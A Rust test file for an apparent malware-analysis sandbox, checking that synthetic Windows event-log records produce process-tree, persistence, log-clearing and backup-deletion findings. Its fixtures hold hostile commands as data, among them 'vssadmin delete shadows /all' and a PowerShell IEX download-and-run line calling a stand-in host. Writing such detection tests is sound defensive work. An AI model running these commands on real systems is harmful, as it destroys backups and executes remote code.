//! What event logs of an operator's own guest add to a report.

use super::make::{Maker, SAMPLE};
use crate::{RuleSet, report, text};
use ukai_model::{Behaviour, Ended, FindingKind};
use ukai_trace::What;

const SECURITY: &str = "Microsoft-Windows-Security-Auditing";
const SYSMON: &str = "Microsoft-Windows-Sysmon";
const PATH: &str = "C:\\Users\\Public\\a.exe";

/// A run without an agent: the host tells the start.
fn maker() -> Maker {
    let mut maker = Maker::new(90);
    maker.settings("windows-x86-64", PATH);
    maker.tell(1, 0, What::Started {});
    maker.execute(1, 0, 0, PATH);
    maker
}

fn reported(maker: Maker) -> Behaviour {
    report(&SAMPLE, &[maker.seen(Ended::TimeUsed)], RuleSet::built_in())
}

impl Maker {
    fn logged(&mut self, at_ms: u64, provider: &str, id: u32, data: &[(&str, &str)]) {
        let data = data.iter().flat_map(|(name, text)| [*name, *text]);
        self.tell(
            0,
            at_ms,
            What::Logged {
                channel: b"Log".to_vec(),
                provider: provider.as_bytes().to_vec(),
                id,
                level: 4,
                record: at_ms,
                computer: b"PC".to_vec(),
                user: Vec::new(),
                writer: 700,
                data: data.map(|text| text.as_bytes().to_vec()).collect(),
            },
        );
    }

    fn process(&mut self, at_ms: u64, pid: &str, parent: &str, path: &str, command: &str) {
        let data = [
            ("NewProcessId", pid),
            ("NewProcessName", path),
            ("ProcessId", parent),
            ("CommandLine", command),
        ];
        self.logged(at_ms, SECURITY, 4688, &data);
    }
}

/// As all is that a guest says.
fn escaped(text: &str) -> String {
    text.replace('\\', "\\\\")
}

fn findings(report: &Behaviour) -> Vec<(FindingKind, String)> {
    let told = |finding: &ukai_model::Finding| {
        let detail = finding.detail.escaped();
        (finding.kind, format!("{} {detail} {}", finding.how, finding.count))
    };
    report.findings.iter().map(told).collect()
}

#[test]
fn what_the_sample_started_is_in_the_tree_and_what_others_did_is_told() {
    let mut maker = maker();
    // The script that starts the sample.
    let attrib = format!("attrib -r \"{PATH}\"");
    maker.process(5, "0x4", "0x400", "C:\\Windows\\System32\\attrib.exe", &attrib);
    maker.process(10, "0x8ac", "0x400", "c:\\users\\public\\A.EXE", "\"C:\\Users\\Public\\a.exe\"");
    let shell = "C:\\Windows\\System32\\cmd.exe";
    maker.process(20, "0x8b0", "0x8ac", shell, "");
    // The same by another log, with the command line.
    let by_sysmon = [
        ("ProcessId", "2224"),
        ("Image", shell),
        ("CommandLine", "cmd /c schtasks /create /tn x"),
        ("ParentProcessId", "2220"),
    ];
    maker.logged(21, SYSMON, 1, &by_sysmon);
    let copies = "C:\\Windows\\System32\\vssadmin.exe";
    maker.process(30, "0x8b4", "0x8b0", copies, "vssadmin delete shadows /all");
    maker.logged(40, SECURITY, 4689, &[("ProcessId", "0x8b0")]);
    // Of whom nobody knows.
    maker.process(50, "0xa00", "0x300", "C:\\Windows\\x.exe", "x.exe -service");
    // A number that is used again, by somebody else.
    maker.process(60, "0x8b4", "0x300", "C:\\Windows\\y.exe", "");
    let report = reported(maker);
    let tree: Vec<(u32, Option<u32>, String, bool)> = report
        .processes
        .iter()
        .map(|process| {
            let command = process.programs[0].command.escaped().into_owned();
            (process.pid, process.parent, command, process.ended_ms.is_some())
        })
        .collect();
    let expected = [
        (1, None, escaped(PATH), false),
        (0x8b0, Some(1), "cmd /c schtasks /create /tn x".to_owned(), true),
        (0x8b4, Some(0x8b0), "vssadmin delete shadows /all".to_owned(), true),
    ];
    assert_eq!(tree, expected, "{report:?}");
    let found = findings(&report);
    assert!(found.iter().any(|(kind, text)| {
        *kind == FindingKind::Destruction && text.starts_with("backups-deleted vssadmin")
    }));
    let logged: Vec<&str> = found
        .iter()
        .filter(|(kind, _)| *kind == FindingKind::Log)
        .map(|(_, text)| text.as_str())
        .collect();
    assert_eq!(logged, ["process C:\\\\Windows\\\\y.exe 1", "process x.exe -service 1"]);
    for rule in ["wine-shadow-copies", "wine-scheduled-task"] {
        assert!(report.matches.iter().any(|found| found.rule == rule), "{rule}: {report:?}");
    }
}

#[test]
fn how_it_stays_and_hides_comes_from_records_too() {
    let mut maker = maker();
    maker.process(10, "0x8ac", "0x400", PATH, PATH);
    let service = [("ServiceName", "evil"), ("ImagePath", PATH)];
    maker.logged(20, "Service Control Manager", 7045, &service);
    maker.logged(30, "Microsoft-Windows-TaskScheduler", 106, &[("TaskName", "\\t")]);
    maker.logged(40, "Microsoft-Windows-Eventlog", 1102, &[("SubjectUserName", "me")]);
    let script =
        [("ScriptBlockText", "IEX (New-Object Net.WebClient).DownloadString('http://a.example')")];
    maker.logged(50, "Microsoft-Windows-PowerShell", 4104, &script);
    let threat = [("Threat Name", "Trojan:Win32/A"), ("Path", PATH)];
    maker.logged(60, "Microsoft-Windows-Windows Defender", 1116, &threat);
    let run = "HKU\\S-1-5-21\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\a";
    let value = [("ProcessId", "2220"), ("TargetObject", run), ("Details", PATH)];
    maker.logged(70, SYSMON, 13, &value);
    // Of a process that is none of the sample's.
    maker.logged(71, SYSMON, 13, &[("ProcessId", "8"), ("TargetObject", run), ("Details", "b")]);
    let made = [("ProcessId", "2220"), ("TargetFilename", "C:\\ProgramData\\b.exe")];
    maker.logged(80, SYSMON, 11, &made);
    for at_ms in 90..95 {
        maker.logged(at_ms, "Microsoft-Windows-Kernel-General", 16, &[]);
    }
    let report = reported(maker);
    let found = findings(&report);
    let path = escaped(PATH);
    use FindingKind::{Hiding, Log, Persistence};
    let run = escaped(run);
    let expected = [
        (Persistence, format!("run-key {run} = {path} 1")),
        (Persistence, "scheduled-task \\\\t 1".to_owned()),
        (Persistence, format!("service evil, {path} 1")),
        (Hiding, "log-cleared Security by me 1".to_owned()),
        (Log, format!("defender Trojan:Win32/A, {path} 1")),
        (Log, "other Microsoft-Windows-Kernel-General 16 in Log 5".to_owned()),
        (
            Log,
            "script IEX (New-Object Net.WebClient).DownloadString('http://a.example') 1".to_owned(),
        ),
    ];
    assert_eq!(found, expected);
    assert_eq!(report.registry.len(), 1, "{:?}", report.registry);
    let file = report.files.iter().find(|file| file.path.as_bytes() == b"C:\\ProgramData\\b.exe");
    assert!(file.is_some_and(|file| file.created && file.proofs[0].pid == Some(1)), "{file:?}");
    let rules: Vec<&str> = report.matches.iter().map(|found| found.rule.as_str()).collect();
    for rule in [
        "wine-service",
        "wine-scheduled-task",
        "wine-run-key",
        "windows-log-cleared",
        "windows-script-loads",
        "windows-defender",
    ] {
        assert!(rules.contains(&rule), "{rule}: {rules:?}");
    }
    let shown = text(&report);
    assert!(shown.contains("log          defender"), "{shown}");
    assert!(
        report.timeline.iter().all(|moment| !moment.text.to_string().contains("Kernel-General"))
    );
}

#[test]
fn a_conversation_has_the_process_that_a_log_names() {
    let mut maker = maker();
    maker.process(10, "0x8ac", "0x400", PATH, PATH);
    maker.payload(1_000, "20.1.2.3", 4_444, b"hello");
    let connected = [
        ("ProcessId", "2220"),
        ("Protocol", "tcp"),
        ("Initiated", "true"),
        ("SourceIp", "192.168.178.23"),
        ("SourcePort", "40001"),
        ("DestinationIp", "20.1.2.3"),
        ("DestinationPort", "4444"),
    ];
    maker.logged(1_000, SYSMON, 3, &connected);
    let report = reported(maker);
    let contact = &report.contacts[0];
    assert_eq!(contact.processes.len(), 1, "{contact:?}");
    assert_eq!(
        (contact.processes[0].pid, contact.processes[0].path.as_bytes()),
        (1, PATH.as_bytes())
    );
}

/// A log that says much leaves room for what the disk says.
#[test]
fn findings_of_logs_have_a_limit_of_their_own() {
    let mut maker = maker();
    for number in 0..2_000 {
        maker.logged(number, &format!("Provider {number}"), 1, &[]);
    }
    maker.write(0, 5_000, "C:\\users\\x\\Start Menu\\Programs\\StartUp\\a.exe", 5);
    let report = reported(maker);
    let of = |kind| report.findings.iter().filter(|finding| finding.kind == kind).count();
    assert_eq!(of(FindingKind::Log), crate::limits::LOGGED_MAX);
    assert_eq!(of(FindingKind::Persistence), 1);
    assert_eq!(report.left_out.get("findings"), Some(&1_750));
}
